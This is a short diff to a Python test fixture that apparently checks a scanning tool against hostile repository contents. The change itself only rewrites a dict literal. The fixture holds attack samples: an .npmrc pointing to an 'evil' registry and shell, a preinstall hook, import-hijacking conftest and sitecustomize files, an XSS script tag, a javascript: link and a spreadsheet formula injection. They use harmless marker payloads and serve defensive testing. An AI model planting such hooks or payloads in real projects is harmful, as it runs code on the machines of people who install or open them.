@@ -42,8 +42,7 @@ _FILES: Mapping[str, Mapping[str, bytes]] = {
     "npmrc": {".npmrc": b"registry=http://evil/\nscript-shell=/bin/evil\n",
               "package.json": b'{"scripts":{"preinstall":"touch /tmp/PWNED"}}',
               ".eslintrc.js": b"require('fs').writeFileSync('/tmp/PWNED','')"},
-    "conftest": {name: _PWN for name in ("conftest.py", "sitecustomize.py", "yaml.py",
-                                         "bandit/__init__.py", "yaml/__init__.py")},
+    "conftest": dict.fromkeys(("conftest.py", "sitecustomize.py", "yaml.py", "bandit/__init__.py", "yaml/__init__.py"), _PWN),
     "xss-snippet": {"a.py": b"password = '</script><script>alert(1)</script>'\n",
                     "README.md": b"![x](http://evil/t.png) [a](javascript:1)\n"
                                  b"=cmd|' /C calc'!A0\n"},
